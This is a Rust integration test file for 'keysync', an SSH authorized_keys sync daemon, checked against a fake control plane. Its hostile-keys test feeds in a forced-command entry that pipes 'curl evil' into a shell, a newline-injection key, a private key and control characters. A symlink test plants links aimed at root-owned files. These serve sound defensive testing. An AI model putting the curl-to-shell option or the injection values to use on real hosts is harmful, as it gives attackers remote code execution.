//! The sync engine end to end (DESIGN.md §2–§6): the real `keysync` binary
//! against the fake control plane on loopback. The daemon follows key
//! additions and removals in every JSON shape, obeys the no-keys 404 after
//! confirming it, ignores soft-deleted entries; `run --once` has the exit
//! codes of §3; lines outside the managed block survive byte for byte, also
//! under a racing writer; symlinks planted by users are never written
//! through; hostile keys never reach the file; the last good keys come back
//! from the state dir with the API down; SIGTERM/SIGINT stop cleanly.
//! Failure answers of the control plane are in sync_faults.rs.

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use nix::sys::signal::Signal;

use crate::support::agent::Agent;
use crate::support::block::{block, block_keys};
use crate::support::config::{Config, User};
use crate::support::env::TestEnv;
use crate::support::fake_cp::{
    Endpoint, FakeControlPlane, Fault, Shape, fixture_keys, gen_ed25519_keys,
};
use crate::support::files::{FileState, chmod, temp_files};
use crate::support::scenario::{Scenario, TOKEN, wait_block_any_order, with_fixture, with_no_keys};
use crate::support::users::TestUser;
use crate::support::{DEADLINE, eventually, http, require_root, sorted};

/// Waits until the block of the env's target holds exactly `want` (in any order).
fn wait_block(env: &TestEnv, agent: &Agent, want: &[String], what: &str) {
    wait_block_any_order(&env.target(), agent, want, what);
}

/// The list body as the fake serves it right now.
fn served_body(cp: &FakeControlPlane) -> String {
    let bearer = format!("Bearer {TOKEN}");
    http::get_tcp(cp.addr(), "/api/v0/ssh/", &[("authorization", &bearer)]).body
}

/// Creates the target's directory as an administrator would (0700).
fn make_target_dir(env: &TestEnv) {
    let dir = env.target().parent().expect("parent").to_path_buf();
    std::fs::create_dir_all(&dir).expect("mkdir");
    chmod(&dir, 0o700);
}

/// Replaces `path` the way another writer would: a new file renamed over it.
fn replace_file(path: &Path, content: &[u8], tmp_name: &str) {
    let tmp = path.with_file_name(tmp_name);
    std::fs::write(&tmp, content).expect("write replacement");
    chmod(&tmp, 0o600);
    std::fs::rename(&tmp, path).expect("rename replacement");
}

// ---------------------------------------------------------------------------
// 1. Following the API

/// In `shape`: the fixture's two keys, one added, bob removed, the added
/// one soft-deleted (the array shapes keep it with `deleted_at`, the
/// object shape leaves it out); the block follows each step.
fn follows_shape(s: &Scenario, agent: &Agent, shape: Shape, extra: &str) {
    let (cp, env) = (&s.cp, &s.env);
    let [alice, bob, _] = fixture_keys().map(str::to_string);
    let extra = extra.to_string();
    let what = format!("{shape:?}");
    cp.set_shape(shape);
    cp.set_keys([alice.clone(), bob.clone()]);
    wait_block(env, agent, &[alice.clone(), bob.clone()], &what);
    cp.add_key(&extra);
    wait_block(
        env,
        agent,
        &[alice.clone(), bob.clone(), extra.clone()],
        &format!("{what}: added"),
    );
    assert!(cp.remove_key(&bob));
    wait_block(
        env,
        agent,
        &[alice.clone(), extra.clone()],
        &format!("{what}: removed"),
    );
    assert!(cp.soft_delete(&extra));
    let body = served_body(cp);
    if shape == Shape::ObjectSshKeys {
        assert!(
            !body.contains(&extra),
            "{what}: the object shape lists a deleted key"
        );
    } else {
        // The array shapes keep the entry, with deleted_at set.
        assert!(
            body.contains(&extra) && body.contains("\"deleted_at\":\"2"),
            "{what}: {body}"
        );
    }
    wait_block(
        env,
        agent,
        std::slice::from_ref(&alice),
        &format!("{what}: soft-deleted"),
    );
}

/// The fixture files of the design, replayed byte for byte, each after a
/// list of only `other`: each brings exactly alice and bob.
fn follows_the_fixture_files(s: &Scenario, agent: &Agent, other: &str) {
    let (cp, env) = (&s.cp, &s.env);
    let [alice, bob, _] = fixture_keys().map(str::to_string);
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/control-plane");
    for name in [
        "list-array-key.json",
        "list-array-public-key.json",
        "list-object-ssh-keys.json",
    ] {
        cp.set_keys([other]);
        wait_block(env, agent, &[other.to_string()], name);
        let body = std::fs::read_to_string(fixtures.join(name)).expect("fixture");
        cp.set_fault(Fault::json_body(body), None);
        wait_block(env, agent, &[alice.clone(), bob.clone()], name);
        cp.clear_fault();
    }
}

/// The authoritative empty list, 404 "No SSH keys found", after `keys`:
/// removing them all is a mass removal, written only after a second fetch
/// confirmed it; the file that held only the block and the hook's cache
/// are left empty.
fn obeys_the_no_keys_404(s: &Scenario, agent: &Agent, keys: &[String]) {
    let (cp, env) = (&s.cp, &s.env);
    cp.set_keys(keys.to_vec());
    wait_block(env, agent, keys, "before the 404");
    let seen = cp.request_count();
    cp.set_keys(Vec::<String>::new());
    let gone = eventually(DEADLINE, || {
        env.read_target()
            .is_some_and(|t| !t.contains("# BEGIN keysync") && !t.contains("# END keysync"))
    });
    let no_keys_404s = cp.requests()[seen..]
        .iter()
        .filter(|r| r.endpoint == Endpoint::List && r.status == Some(404))
        .count();
    assert!(
        gone,
        "the no-keys 404 did not remove the block: {:?}\n{}",
        env.read_target(),
        agent.log_tail()
    );
    assert!(
        no_keys_404s >= 2,
        "the removal was written after {no_keys_404s} no-keys 404(s), without confirmation"
    );
    assert_eq!(
        env.read_target().as_deref(),
        Some(""),
        "only the block was in the file"
    );
    assert_eq!(
        env.cache("root").as_deref(),
        Some(""),
        "the hook cache must be empty"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn daemon_follows_every_shape_ignores_soft_deleted_and_obeys_the_no_keys_404() {
    with_fixture(|s| {
        let (cp, env) = (&s.cp, &s.env);
        let [alice, bob, retired] = fixture_keys().map(str::to_string);
        let extra = gen_ed25519_keys(4);
        env.write_config(s.config());
        let agent = env.spawn();
        // The fixture list: old@retired is soft-deleted.
        wait_block(env, &agent, &[alice.clone(), bob.clone()], "fixture list");
        assert!(!env.read_target().unwrap_or_default().contains(&retired));

        for (shape, extra) in [Shape::ArrayKey, Shape::ArrayPublicKey, Shape::ObjectSshKeys]
            .into_iter()
            .zip(&extra)
        {
            follows_shape(&s, &agent, shape, extra);
        }
        follows_the_fixture_files(&s, &agent, &extra[3]);
        obeys_the_no_keys_404(&s, &agent, &[alice.clone(), bob.clone(), extra[0].clone()]);

        // And keys come back after the empty list.
        cp.set_keys([bob.clone()]);
        wait_block(
            env,
            &agent,
            std::slice::from_ref(&bob),
            "after the empty list",
        );
        let (status, took) = agent.stop(Duration::from_secs(5));
        assert!(status.success(), "stop: {status:?} after {took:?}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn run_once_exit_codes() {
    with_fixture(|s| {
        let (cp, env) = (&s.cp, &s.env);
        let [alice, bob, _] = fixture_keys().map(str::to_string);
        let good = s.config();
        env.write_config(&good);

        // 0: every source answered, every user written.
        let (code, stderr) = env.run_once_exit();
        assert_eq!(code, 0, "{stderr}");
        assert_eq!(
            sorted(&block_keys(&env.read_target().expect("target"))),
            sorted(&[alice.clone(), bob.clone()])
        );

        // 1: the source fails, yet the last good keys are written.
        std::fs::remove_file(env.target()).expect("rm target");
        cp.set_fault(Fault::server_error(500), None);
        let (code, stderr) = env.run_once_exit();
        assert_eq!(code, 1, "{stderr}");
        assert_eq!(
            sorted(&block_keys(
                &env.read_target().expect("last good keys written")
            )),
            sorted(&[alice.clone(), bob.clone()])
        );
        cp.clear_fault();

        // 2: a bad config (an unknown key), named by file, line and field.
        let bad = s.config().set("bogus_knob", 1).to_string();
        let line = bad
            .lines()
            .position(|l| l.starts_with("bogus_knob"))
            .expect("line")
            + 1;
        env.write_config(&bad);
        let before = FileState::of(&env.target());
        let (code, stderr) = env.run_once_exit();
        assert_eq!(code, 2, "{stderr}");
        let config = env.config_path().display().to_string();
        for needle in [config.as_str(), &format!("line {line}"), "bogus_knob"] {
            assert!(
                stderr.contains(needle),
                "the error does not name {needle:?}:\n{stderr}"
            );
        }
        assert_eq!(
            FileState::of(&env.target()),
            before,
            "a bad config wrote the target"
        );
        // The daemon refuses to start on it the same way.
        let mut agent = env.spawn();
        assert!(
            eventually(DEADLINE, || !agent.alive()),
            "the daemon runs on a bad config"
        );
        let (status, _) = agent.stop(Duration::from_secs(5));
        assert_eq!(status.code(), Some(2), "daemon exit on a bad config");
    })
    .await;
}

// ---------------------------------------------------------------------------
// 3. Lines outside the block

#[tokio::test(flavor = "multi_thread")]
async fn foreign_lines_survive_byte_for_byte_also_when_another_writer_replaces_the_file() {
    with_no_keys(|s| {
        let (cp, env) = (&s.cp, &s.env);
        let k = gen_ed25519_keys(8);
        let (platform, by_hand, stale) = (&k[5], &k[6], &k[7]);
        cp.set_keys([k[0].clone(), k[1].clone()]);
        make_target_dir(env);
        // CRLF lines before the block, a stale block, a CRLF line and a last
        // line without a newline after it.
        let before = format!("# keys below are managed by the cloud\r\n{platform}\r\n\n");
        let after = format!("# added by hand\r\n{by_hand}");
        let initial = format!("{before}{}{after}", block(std::slice::from_ref(stale)));
        std::fs::write(env.target(), &initial).expect("seed target");
        chmod(&env.target(), 0o600);
        env.write_config(s.config());
        let agent = env.spawn();

        let exact = |want: String, what: &str| {
            let ok = eventually(DEADLINE, || {
                env.read_target().as_deref() == Some(want.as_str())
            });
            assert!(
                ok,
                "{what}: expected\n{want:?}\ngot\n{:?}\nagent log:\n{}",
                env.read_target(),
                agent.log_tail()
            );
        };
        exact(format!("{before}{}{after}", block(&k[..2])), "first sync");
        cp.set_keys(k[..3].to_vec());
        exact(format!("{before}{}{after}", block(&k[..3])), "key added");

        // Another writer renames a new file over the target, with extra
        // foreign lines around an intact block; the next change keeps them.
        let current = env.read_target().expect("target");
        let replaced = format!("# another writer was here\r\n{current}\n# and here, no newline");
        replace_file(&env.target(), replaced.as_bytes(), "other-writer.tmp");
        cp.set_keys([k[0].clone(), k[2].clone(), k[3].clone()]);
        exact(
            replaced.replace(
                &block(&k[..3]),
                &block(&[k[0].clone(), k[2].clone(), k[3].clone()]),
            ),
            "after another writer added lines",
        );

        // The platform rewrites the file without the block (and without a
        // final newline): the block is re-asserted at once, with no change on
        // the API, after the platform's lines.
        let platform_file = format!("# rewritten by the platform\n{platform}");
        replace_file(&env.target(), platform_file.as_bytes(), "platform.tmp");
        exact(
            format!(
                "{platform_file}\n{}",
                block(&[k[0].clone(), k[2].clone(), k[3].clone()])
            ),
            "after the platform dropped the block",
        );
        // The agent counts a repair after writing it: let the count catch up.
        let mut status = serde_json::Value::Null;
        let counted = eventually(DEADLINE, || {
            status = env.status_json();
            status["users"]["root"]["drift_repairs"]
                .as_u64()
                .unwrap_or(0)
                >= 1
        });
        assert!(counted, "drift repair not counted: {status}");
        let (status, _) = agent.stop(Duration::from_secs(5));
        assert!(status.success());
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn racing_writer_keeps_its_line_and_the_block_follows_the_api() {
    with_no_keys(|s| {
        let (cp, env) = (&s.cp, &s.env);
        let pool = gen_ed25519_keys(10);
        const FOREIGN: &str = "# foreign line of the racing writer";
        let step_keys = |i: usize| vec![pool[0].clone(), pool[1 + i % 9].clone()];
        cp.set_keys(step_keys(0));
        make_target_dir(env);
        env.write_config(s.config());
        let agent = env.spawn();
        wait_block(env, &agent, &step_keys(0), "first sync");

        // The racer keeps renaming new files over the target: its foreign
        // line, a line unique to each write and, every other time, the block
        // as it last saw it (the other times, no block at all).
        let stop = Arc::new(AtomicBool::new(false));
        let writes = Arc::new(AtomicUsize::new(0));
        let racer = {
            let (stop, writes, target) = (stop.clone(), writes.clone(), env.target());
            std::thread::spawn(move || {
                let mut n = 0usize;
                while !stop.load(Ordering::Relaxed) {
                    n += 1;
                    let current = std::fs::read_to_string(&target).unwrap_or_default();
                    let mut content = format!("{FOREIGN}\n# racer write {n}\n");
                    if n.is_multiple_of(2) {
                        let keys = block_keys(&current);
                        if !keys.is_empty() {
                            content.push_str(&block(&keys));
                        }
                    }
                    replace_file(&target, content.as_bytes(), "racer.tmp");
                    writes.store(n, Ordering::Relaxed);
                    std::thread::sleep(Duration::from_millis(2));
                }
            })
        };
        // Meanwhile the API churns.
        let started = Instant::now();
        let mut step = 0;
        while started.elapsed() < Duration::from_secs(3) {
            step += 1;
            cp.set_keys(step_keys(step));
            std::thread::sleep(Duration::from_millis(30));
        }
        stop.store(true, Ordering::Relaxed);
        racer.join().expect("racer");
        let racer_writes = writes.load(Ordering::Relaxed);
        assert!(racer_writes > 50, "the racer wrote only {racer_writes} times");

        let want = sorted(&step_keys(step));
        let settled = eventually(DEADLINE, || {
            env.read_target().is_some_and(|t| {
                sorted(&block_keys(&t)) == want
                    && t.matches(FOREIGN).count() == 1
                    && t.matches("# BEGIN keysync").count() == 1
            })
        });
        let text = env.read_target().unwrap_or_default();
        assert!(settled, "final file:\n{text}\nwant block {want:#?}\n{}", agent.log_tail());
        // Nothing but the racer's lines and one block.
        let foreign: Vec<&str> = text
            .lines()
            .filter(|l| !l.starts_with("ssh-ed25519 ") && !l.starts_with("# BEGIN keysync") && !l.starts_with("# END keysync"))
            .collect();
        assert_eq!(foreign.len(), 2, "{text}");
        assert_eq!(foreign[0], FOREIGN);
        assert!(foreign[1].starts_with("# racer write "), "{text}");
        eprintln!(
            "race: {racer_writes} racer renames over {step} API changes; the file kept {:?}, the racer's last write was {racer_writes}",
            foreign[1]
        );
        let repairs = env.status_json()["users"]["root"]["drift_repairs"].as_u64().unwrap_or(0);
        assert!(repairs >= 1, "the agent never repaired the racer's block removals");
        assert!(temp_files(env.target().parent().expect("dir")).is_empty());
        let (status, _) = agent.stop(Duration::from_secs(5));
        assert!(status.success());
    })
    .await;
}

// ---------------------------------------------------------------------------
// 4. Symlinks in homes users control

/// Homes with links planted in them, next to root's own files: `a`'s
/// `authorized_keys` links to a root-owned file, `b`'s `.ssh` to a
/// root-owned directory; `c`'s `.ssh` and root's are root-owned links to
/// their own 0700 directories, which sshd's rule lets the agent follow.
struct Planted {
    a: TestUser,
    b: TestUser,
    c: TestUser,
    secret: PathBuf,
    secret_before: FileState,
    root_dir: PathBuf,
    a_ssh: PathBuf,
    a_link: PathBuf,
    b_link: PathBuf,
    c_real: PathBuf,
    root_real: PathBuf,
}

impl Planted {
    fn plant(env: &TestEnv) -> Planted {
        // Homes live below the test dir; users must be able to reach them.
        chmod(env.path(), 0o755);

        // A root-owned file and a root-owned directory a user would love to write into.
        let secret = env.path().join("root-secret");
        std::fs::write(&secret, "root's own file\n").expect("secret");
        chmod(&secret, 0o600);
        let secret_before = FileState::of(&secret);
        let root_dir = env.path().join("root-only");
        std::fs::create_dir(&root_dir).expect("root dir");
        chmod(&root_dir, 0o700);

        // a: authorized_keys is the user's link to the root-owned file.
        let a = TestUser::create("keysync-t4", env.path().join("home-a"), true);
        let a_ssh = a.home.join(".ssh");
        std::fs::create_dir(&a_ssh).expect("mkdir");
        chmod(&a_ssh, 0o700);
        a.chown(&a_ssh);
        let a_link = a_ssh.join("authorized_keys");
        std::os::unix::fs::symlink(&secret, &a_link).expect("symlink");
        a.chown(&a_link);

        // b: .ssh is the user's link to the root-owned directory.
        let b = TestUser::create("keysync-t4", env.path().join("home-b"), true);
        let b_link = b.home.join(".ssh");
        std::os::unix::fs::symlink(&root_dir, &b_link).expect("symlink");
        b.chown(&b_link);

        // c: .ssh is a root-owned link to c's own 0700 directory: sshd's
        // rule holds, so it is followed (with c's fsuid).
        let c = TestUser::create("keysync-t4", env.path().join("home-c"), true);
        let c_real = env.path().join("c-real-ssh");
        std::fs::create_dir(&c_real).expect("mkdir");
        chmod(&c_real, 0o700);
        c.chown(&c_real);
        std::os::unix::fs::symlink(&c_real, c.home.join(".ssh")).expect("symlink");

        // root: its .ssh is a root-owned link to a root-owned 0700 directory.
        let root_real = env.path().join("root-real-ssh");
        std::fs::create_dir(&root_real).expect("mkdir");
        chmod(&root_real, 0o700);
        let home = env.path().join("home");
        std::fs::create_dir(&home).expect("mkdir");
        std::os::unix::fs::symlink(&root_real, home.join(".ssh")).expect("symlink");
        Planted {
            a,
            b,
            c,
            secret,
            secret_before,
            root_dir,
            a_ssh,
            a_link,
            b_link,
            c_real,
            root_real,
        }
    }

    /// `config` with a, b and c added at their default path.
    fn config(&self, config: Config) -> Config {
        [&self.a, &self.b, &self.c]
            .iter()
            .fold(config, |config, u| {
                config.user(User::block(&u.name, "~/.ssh/authorized_keys"))
            })
    }

    /// The files of the users that must be written: root's and c's.
    fn good_files(&self) -> [PathBuf; 2] {
        [
            self.root_real.join("authorized_keys"),
            self.c_real.join("authorized_keys"),
        ]
    }

    /// Nothing was written through a's or b's link, and the links are as planted.
    fn check_untouched(&self, what: &str) {
        assert_eq!(
            FileState::of(&self.secret),
            self.secret_before,
            "{what}: the root-owned file was written through a's link"
        );
        assert_eq!(
            std::fs::read_link(&self.a_link).ok().as_deref(),
            Some(self.secret.as_path()),
            "{what}: a's link"
        );
        assert_eq!(
            std::fs::read_link(&self.b_link).ok().as_deref(),
            Some(self.root_dir.as_path()),
            "{what}: b's link"
        );
        let in_root_dir: Vec<_> = std::fs::read_dir(&self.root_dir)
            .expect("ls")
            .flatten()
            .map(|e| e.path())
            .collect();
        assert!(
            in_root_dir.is_empty(),
            "{what}: written into the root-only dir: {in_root_dir:?}"
        );
        assert!(
            temp_files(&self.a_ssh).is_empty(),
            "{what}: temp files left in a's .ssh"
        );
    }
}

/// Whether the agent has dealt with `user`: an error, or a write.
fn dealt_with(status: &serde_json::Value, user: &TestUser) -> bool {
    let u = &status["users"][&user.name];
    !u["last_error"].is_null() || !u["last_write"].is_null()
}

/// Whether `user` is reported failed for a symlink.
fn failed_for_symlink(status: &serde_json::Value, user: &TestUser) -> bool {
    status["users"][&user.name]["last_error"]
        .as_str()
        .is_some_and(|e| e.contains("symlink"))
}

#[tokio::test(flavor = "multi_thread")]
async fn planted_symlinks_are_never_written_through_and_root_links_are_followed() {
    if !require_root("planted_symlinks_are_never_written_through_and_root_links_are_followed") {
        return;
    }
    with_no_keys(|s| {
        let (cp, env) = (&s.cp, &s.env);
        let keys = gen_ed25519_keys(2);
        cp.set_keys(keys.clone());
        let p = Planted::plant(env);
        env.write_config(p.config(s.config()));
        let agent = env.spawn();

        let [root_file, c_file] = p.good_files();
        wait_block_any_order(
            &root_file,
            &agent,
            &keys,
            "root through its root-owned link",
        );
        wait_block_any_order(&c_file, &agent, &keys, "c through the root-owned link");
        let c_meta = std::fs::metadata(&c_file).expect("c file");
        assert_eq!(
            (c_meta.uid(), c_meta.mode() & 0o7777),
            (p.c.uid, 0o600),
            "c's file owner and mode"
        );
        // Wait until a and b were dealt with (an error, or a write: the
        // latter would be the bug), then look at what is on disk first.
        let mut status = serde_json::Value::Null;
        let done = eventually(DEADLINE, || {
            status = env.status_json();
            dealt_with(&status, &p.a) && dealt_with(&status, &p.b)
        });
        p.check_untouched("daemon");
        assert!(
            done,
            "a and b never dealt with: {status:#}\n{}",
            agent.log_tail()
        );
        // Both are reported failed, for the symlink.
        assert!(
            failed_for_symlink(&status, &p.a) && failed_for_symlink(&status, &p.b),
            "planted links not reported: {status:#}\n{}",
            agent.log_tail()
        );
        for u in ["root", p.c.name.as_str()] {
            assert!(
                status["users"][u]["last_error"].is_null(),
                "{u} reported failed: {status:#}"
            );
        }
        assert_eq!(
            status_json_ready(env),
            Some(false),
            "ready although users failed"
        );

        let (status, _) = agent.stop(Duration::from_secs(5));
        assert!(status.success());

        // run --once: the same, and exit 1 since users failed.
        let (code, stderr) = env.run_once_exit();
        assert_eq!(code, 1, "{stderr}");
        assert!(stderr.contains("symlink"), "{stderr}");
        p.check_untouched("run --once");
        // A key change still reaches the good users in the same pass.
        let more = gen_ed25519_keys(3);
        cp.set_keys(more.clone());
        let (code, stderr) = env.run_once_exit();
        assert_eq!(code, 1, "{stderr}");
        for path in p.good_files() {
            let text = std::fs::read_to_string(&path).expect("written");
            assert_eq!(
                sorted(&block_keys(&text)),
                sorted(&more),
                "{}",
                path.display()
            );
        }
        p.check_untouched("run --once after a change");
    })
    .await;
}

/// `/readyz` through `keysync status --check`: Some(true) when ready.
fn status_json_ready(env: &TestEnv) -> Option<bool> {
    let out = env.status(&["--check"]);
    match out.status.code()? {
        0 => Some(true),
        1 => Some(false),
        _ => None,
    }
}

// ---------------------------------------------------------------------------
// 5. Hostile keys

/// Runs ssh-keygen; panics with its stderr on failure.
fn ssh_keygen(args: &[&str]) -> std::process::Output {
    let out = Command::new("ssh-keygen")
        .args(args)
        .output()
        .expect("run ssh-keygen (openssh-client)");
    assert!(
        out.status.success(),
        "ssh-keygen {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// Generates a key pair in `dir`; returns (public line, private text).
fn keypair(dir: &Path, name: &str, kind: &[&str]) -> (String, String) {
    let path = dir.join(name);
    let path_s = path.to_str().expect("utf-8");
    let mut args = vec!["-q", "-N", "", "-C", name, "-f", path_s];
    args.extend_from_slice(kind);
    ssh_keygen(&args);
    let public = std::fs::read_to_string(path.with_extension("pub")).expect("pub");
    let private = std::fs::read_to_string(&path).expect("private");
    (public.trim_end().to_string(), private)
}

/// An `ssh-dss` public key line with a well-formed blob (string "ssh-dss",
/// then the mpints p, q, g, y), for systems whose ssh-keygen no longer makes DSA keys.
fn dss_line() -> String {
    let mut blob = Vec::new();
    let mut put = |bytes: &[u8]| {
        blob.extend_from_slice(&(bytes.len() as u32).to_be_bytes());
        blob.extend_from_slice(bytes);
    };
    put(b"ssh-dss");
    put(&[&[0x00, 0xc1][..], &[0x5a; 127]].concat());
    put(&[
        0x00, 0x9f, 0x33, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88, 0x99, 0x10, 0x20, 0x30,
        0x40, 0x50, 0x60, 0x70, 0x80, 0x91,
    ]);
    put(&[0x4b; 128]);
    put(&[0x2d; 128]);
    format!(
        "ssh-dss {} dsa@old",
        crate::support::fake_cp::base64_encode(&blob)
    )
}

/// An `ssh-dss` public key line: made by ssh-keygen where it still makes
/// DSA keys, else [`dss_line`].
fn dss_key(dir: &Path) -> String {
    let dss = Command::new("ssh-keygen")
        .args(["-q", "-N", "", "-t", "dsa", "-f"])
        .arg(dir.join("old-dsa"))
        .output()
        .ok()
        .filter(|o| o.status.success())
        .and_then(|_| std::fs::read_to_string(dir.join("old-dsa.pub")).ok())
        .map(|s| s.trim_end().to_string())
        .unwrap_or_else(dss_line);
    assert!(dss.starts_with("ssh-dss "), "{dss}");
    dss
}

/// `ssh-keygen -l` lists each line, alone in a file in `dir`, as one key.
fn assert_openssh_accepts(dir: &Path, lines: &[String]) {
    std::fs::create_dir(dir).expect("mkdir");
    for (i, line) in lines.iter().enumerate() {
        let file = dir.join(format!("line-{i}"));
        std::fs::write(&file, format!("{line}\n")).expect("write line");
        let out = ssh_keygen(&["-l", "-f", file.to_str().expect("utf-8")]);
        let listed = String::from_utf8_lossy(&out.stdout);
        assert_eq!(
            listed.lines().count(),
            1,
            "ssh-keygen -l on {line:?}: {listed}"
        );
    }
}

/// The base64 blob of a key line (the second field), or of the line itself.
fn blob_of(line: &str) -> &str {
    line.split_whitespace().nth(1).unwrap_or(line)
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_keys_never_reach_the_file() {
    with_no_keys(|s| {
        let (cp, env) = (&s.cp, &s.env);
        let keys_dir = env.path().join("keys");
        std::fs::create_dir(&keys_dir).expect("mkdir");
        let pool = gen_ed25519_keys(10);
        let [alice, bob, _] = fixture_keys().map(str::to_string);
        let (ed_pub, ed_private) = keypair(&keys_dir, "real-ed25519", &["-t", "ed25519"]);
        let (rsa_pub, _) = keypair(&keys_dir, "real-rsa3072", &["-t", "rsa", "-b", "3072"]);
        let (ecdsa_pub, _) = keypair(&keys_dir, "real-ecdsa", &["-t", "ecdsa", "-b", "256"]);
        let (rsa1024_pub, _) = keypair(&keys_dir, "weak-rsa1024", &["-t", "rsa", "-b", "1024"]);
        let dss = dss_key(&keys_dir);
        let blob = |i: usize| blob_of(&pool[i]).to_string();

        let hostile: Vec<(&str, String)> = vec![
            ("newline injection", format!("{}\n{}", pool[0], pool[1])),
            (
                "options",
                format!("command=\"/bin/sh -c 'curl evil|sh'\" {}", pool[2]),
            ),
            ("private key", ed_private.clone()),
            ("ssh-dss", dss.clone()),
            ("rsa-1024", rsa1024_pub.clone()),
            (
                "20 KiB comment",
                format!("ssh-ed25519 {} {}", blob(3), "c".repeat(20 * 1024)),
            ),
            ("bell", format!("ssh-ed25519 {} bell\x07comment", blob(4))),
            (
                "carriage return",
                format!("ssh-ed25519 {} cr\rinjected", blob(5)),
            ),
            ("empty", String::new()),
        ];
        // Hostile entries must not poison their neighbours: good keys are
        // interleaved, one of them twice with another comment.
        let duplicate = format!("ssh-ed25519 {} second-comment", blob(6));
        let good = [
            alice.clone(),
            bob.clone(),
            ed_pub.clone(),
            rsa_pub.clone(),
            ecdsa_pub.clone(),
            pool[6].clone(),
        ];
        let mut served = Vec::new();
        for (i, (_, h)) in hostile.iter().enumerate() {
            served.push(h.clone());
            served.push(good[i % good.len()].clone());
        }
        served.push(duplicate);
        cp.set_keys(served);

        env.write_config(s.config());
        let (code, stderr) = env.run_once_exit();
        assert_eq!(
            code, 0,
            "bad keys are dropped, the list is still an answer:\n{stderr}"
        );
        let text = env.read_target().expect("target");
        let cache = env.cache("root").expect("cache");

        // The good keys, each once, and nothing else.
        let lines = block_keys(&text);
        assert_eq!(lines.len(), good.len(), "{text}");
        for g in &good {
            let n = lines.iter().filter(|l| blob_of(l) == blob_of(g)).count();
            assert_eq!(n, 1, "{g} appears {n} times:\n{text}");
        }
        // No trace of any hostile entry, in the file or in the hook's cache.
        let mut forbidden: Vec<(String, &str)> = vec![
            (blob(0), "newline injection (first half)"),
            (blob(1), "newline injection (second half)"),
            (blob(2), "options"),
            (blob_of(&dss).to_string(), "ssh-dss"),
            (blob_of(&rsa1024_pub).to_string(), "rsa-1024"),
            (blob(3), "20 KiB comment"),
            (blob(4), "bell"),
            (blob(5), "carriage return"),
            ("PRIVATE KEY".to_string(), "private key"),
            ("command=".to_string(), "options"),
        ];
        // Every base64 line of the private key's body.
        for l in ed_private.lines().filter(|l| !l.starts_with("-----")) {
            forbidden.push((l.to_string(), "private key body"));
        }
        for (needle, what) in &forbidden {
            assert!(
                !text.contains(needle.as_str()),
                "{what} reached the file:\n{text}"
            );
            assert!(
                !cache.contains(needle.as_str()),
                "{what} reached the cache:\n{cache}"
            );
        }
        assert!(
            text.bytes()
                .all(|b| b == b'\n' || (0x20..0x7f).contains(&b)),
            "control characters in the file: {text:?}"
        );

        // Each written line is a key OpenSSH itself accepts.
        assert_openssh_accepts(&env.path().join("ssh-keygen-check"), &lines);
    })
    .await;
}

// ---------------------------------------------------------------------------
// 6. Restart with the API down

#[tokio::test(flavor = "multi_thread")]
async fn restart_with_the_api_down_serves_the_last_good_keys() {
    let handle = tokio::runtime::Handle::current();
    with_no_keys(move |Scenario { cp, env }| {
        let keys = gen_ed25519_keys(3);
        cp.set_keys(keys.clone());
        env.write_config(Config::vast(&env, &cp.url()));
        let agent = env.spawn();
        wait_block(&env, &agent, &keys, "first sync");
        let (status, _) = agent.stop(Duration::from_secs(5));
        assert!(status.success());

        // Down (503 for everything), target gone, restart.
        cp.set_down(true);
        std::fs::remove_file(env.target()).expect("rm target");
        let seen = cp.request_count();
        let mut agent = env.spawn();
        wait_block(&env, &agent, &keys, "restart with the API down");
        let ok = eventually(DEADLINE, || {
            cp.requests()[seen..]
                .iter()
                .any(|r| r.fault == Some("down"))
        });
        assert!(ok, "the restarted agent never met the outage");
        assert!(agent.alive());
        let (status, _) = agent.stop(Duration::from_secs(5));
        assert!(status.success());

        // run --once with the API gone entirely (port closed): exit 1, keys written.
        handle.block_on(cp.shutdown());
        std::fs::remove_file(env.target()).expect("rm target");
        let (code, stderr) = env.run_once_exit();
        assert_eq!(code, 1, "{stderr}");
        let text = env.read_target().expect("last good keys written");
        assert_eq!(sorted(&block_keys(&text)), sorted(&keys));
        assert_eq!(
            env.cache("root").map(|c| c.lines().count()),
            Some(keys.len())
        );
    })
    .await;
}

// ---------------------------------------------------------------------------
// Signals

#[tokio::test(flavor = "multi_thread")]
async fn sigterm_and_sigint_stop_cleanly_without_leftovers() {
    with_no_keys(|s| {
        let cp = &s.cp;
        let pool = gen_ed25519_keys(12);
        for sig in [Signal::SIGTERM, Signal::SIGINT] {
            cp.set_keys(pool[..2].to_vec());
            // A fresh world for each signal.
            let env = TestEnv::new();
            env.write_config(Config::vast(&env, &cp.url()));
            let agent = env.spawn();
            wait_block(&env, &agent, &pool[..2], "first sync");
            // Stop while the agent is busy writing: the list keeps changing.
            let stop = AtomicBool::new(false);
            let churn = std::thread::scope(|s| {
                let h = s.spawn(|| {
                    let mut i = 0;
                    while !stop.load(Ordering::Relaxed) {
                        i += 1;
                        cp.set_keys([pool[0].clone(), pool[1 + i % 11].clone()]);
                        std::thread::sleep(Duration::from_millis(15));
                    }
                    i
                });
                // Let a change land, then signal.
                let first = env.read_target();
                let _ = eventually(DEADLINE, || env.read_target() != first);
                let (status, took) = agent.stop_with(sig, Duration::from_secs(5));
                stop.store(true, Ordering::Relaxed);
                let changes = h.join().expect("churn");
                (status, took, changes)
            });
            let (status, took, changes) = churn;
            eprintln!("{sig:?}: keysync run exited with {status:?} {took:?} after the signal ({changes} API changes meanwhile)");
            assert!(status.success(), "{sig:?}: exit {status:?} after {took:?} (a SIGKILL after 5 s shows as signal 9)");
            let left: Vec<PathBuf> = [temp_files(env.target().parent().expect("dir")), temp_files(&env.state_dir())].concat();
            assert!(left.is_empty(), "{sig:?}: temporary files left: {left:?}");
            assert!(!env.socket().exists(), "{sig:?}: the health socket was left behind");
        }
    })
    .await;
}
